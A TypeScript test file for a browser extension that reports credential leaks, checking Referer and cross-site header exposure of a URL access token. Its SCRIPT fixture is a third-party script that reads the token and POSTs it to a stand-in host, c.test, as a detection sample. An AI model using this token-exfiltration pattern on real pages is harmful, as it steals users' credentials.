import type { Page } from 'puppeteer-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Report } from '../../../src/engine/report/report.js';
import { useExtension } from '../../support/extension.js';
import { jwtOf } from '../../support/jose.js';
import { html, type Lab, startLab, until } from './lab.js';

const TOKEN = jwtOf({ sub: 'ada', scope: 'orders' });
/** Sends the token in the page's address to a third site. */
const SCRIPT = `
  const token = new URLSearchParams(location.search).get('access_token');
  const collect = new URL('/collect', location.href.replace('a.test', 'c.test'));
  fetch(collect, { method: 'POST', headers: { authorization: 'Bearer ' + token } }).then(() => { document.title = 'sent'; });`;

describe('what a page lets out to other sites', () => {
  let lab: Lab;
  const extension = useExtension(async () => {
    lab = await startLab({
      '/page': (_, response) => {
        response.setHeader('referrer-policy', 'unsafe-url');
        html(response, `<script src="${lab.at('b.test')}/third-party.js"></script>`);
      },
      '/third-party.js': (_, response) => {
        response.setHeader('content-type', 'text/javascript');
        response.end(SCRIPT);
      },
      '/collect': (_, response) => {
        response.setHeader('access-control-allow-origin', '*');
        response.setHeader('access-control-allow-headers', 'authorization');
        response.end('noted');
      },
    });
  });
  afterAll(() => lab.close());

  describe.each([false, true])('the panel is open: %s', (panel) => {
    let page: Page;
    let tabId: number;

    beforeAll(async () => {
      page = await extension().browser.newPage();
      await page.goto(lab.at('a.test'));
      tabId = await extension().tabIdOf(page);
      if (panel) await extension().openPanel(page);
      await page.goto(`${lab.at('a.test')}/page?access_token=${TOKEN}`);
      await page.waitForFunction(() => document.title === 'sent');
    });

    afterAll(() => page.close());

    const exposures = ({ events }: Report) =>
      events
        .filter(({ type, detail }) => type === 'exposed' && detail.origin === lab.at('c.test'))
        .map(({ detail }) => detail);
    const report = () => extension().ask<'getReport'>({ type: 'getReport', tabId });

    it('is the address in the Referer header, and the token', async () => {
      const { credentials, ...rest } = await until(report, (seen) => exposures(seen).length > 2);
      expect(credentials).toHaveLength(1);
      expect(exposures({ credentials, ...rest })).toEqual(
        expect.arrayContaining([
          expect.objectContaining({ exposure: 'referer', carrier: 'header', locator: 'referer' }),
          expect.objectContaining({
            exposure: 'cross-site',
            carrier: 'header',
            locator: 'authorization',
          }),
        ]),
      );
    });

    it('is told with the script that sent it where DevTools knows that, and nowhere else', async () => {
      const byScript = (one: Report) =>
        exposures(one).filter(({ exposure }) => exposure === 'third-party-script');
      const seen = await until(report, (one) =>
        panel ? byScript(one).length > 0 : exposures(one).length > 2,
      );
      const told = byScript(seen).map(({ script, locator }) => [script, locator]);
      expect(told).toEqual(panel ? [[lab.at('b.test'), 'authorization']] : []);
    });
  });
});
